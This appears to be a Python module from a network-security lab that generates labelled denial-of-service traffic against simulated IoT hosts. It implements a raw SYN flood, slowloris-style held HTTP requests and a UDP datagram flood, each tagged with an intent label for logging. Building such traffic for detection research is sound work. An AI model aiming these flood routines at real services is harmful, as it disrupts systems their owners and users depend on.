"""Denial of service by one device: half-open TCP, held HTTP requests, large datagrams; all too small to hurt."""

import asyncio
import random
from contextlib import suppress
from typing import ClassVar

from redshank.lab import packets
from redshank.lab.attack import Attack, Episode, amount, pace
from redshank.lab.host import Host
from redshank.lab.scene import Scene

HOLD_S = 2.5


class Dos(Attack):
    """Keep one service busy from one device."""

    variants: ClassVar = ("syn", "http", "udp")
    victims: ClassVar = {"syn": ("hub", "broker", "nas"), "http": ("hub",), "udp": ("gateway", "coaps")}
    episodes: ClassVar = 4
    paces: ClassVar = {"syn": (120.0, 280.0), "http": (15.0, 40.0), "udp": (40.0, 100.0)}

    async def run(self, episode: Episode, scene: Scene, rng: random.Random) -> None:
        """Flood one service."""
        host, target = scene.hosts[episode.attackers[0]], scene.hosts[episode.victim].ip
        if episode.variant == "syn":
            port = scene.ports[{"hub": "web", "broker": "mqtt"}.get(episode.victim, "files")]
            await self._syn(host, (target, port), amount(episode, rng, 90, 150), rng)
        elif episode.variant == "http":
            await self._hold(host, (target, scene.ports["web"]), amount(episode, rng, 50, 80), rng)
        else:
            port = scene.ports["coap" if episode.victim in scene.cast.coaps else "dns"]
            await self._udp(host, (target, port), amount(episode, rng, 60, 110), rng)

    async def _syn(self, host: Host, target: tuple[str, int], count: int, rng: random.Random) -> None:
        intent = self.intent("syn flood")
        with host.raw_ip() as raw:
            async for _ in pace(rng, count, rng.uniform(*self.paces["syn"])):
                source = (host.ip, host.port())
                row = host.note("tcp", source, target, intent)
                segment = packets.tcp(source, target, packets.SYN, seq=rng.getrandbits(32))
                host.send_ip(raw, packets.ipv4(host.ip, target[0], 6, segment, ident=rng.getrandbits(16)))
                host.journal.end(row)

    async def _hold(self, host: Host, target: tuple[str, int], count: int, rng: random.Random) -> None:
        async def one() -> None:
            with suppress(OSError, TimeoutError):
                async with host.connect(*target, self.intent("held http requests")) as (_, writer):
                    writer.write(b"GET /search?q=" + b"a" * rng.randrange(20, 60) + b" HTTP/1.1\r\nHost: hub\r\n")
                    for number in range(rng.randint(1, 4)):
                        await asyncio.sleep(HOLD_S * rng.uniform(0.1, 0.4))
                        writer.write(b"X-%d: %d\r\n" % (number, rng.randrange(10**6)))
                        await writer.drain()

        async with asyncio.TaskGroup() as group:
            async for _ in pace(rng, count, rng.uniform(*self.paces["http"])):
                group.create_task(one())

    async def _udp(self, host: Host, target: tuple[str, int], count: int, rng: random.Random) -> None:
        async for _ in pace(rng, count, rng.uniform(*self.paces["udp"])):
            payloads = [b"x" * rng.randrange(700, 1400)] * rng.choice((1, 1, 2, 3))
            await host.exchange(*target, payloads, self.intent("udp flood"), timeout_s=0)
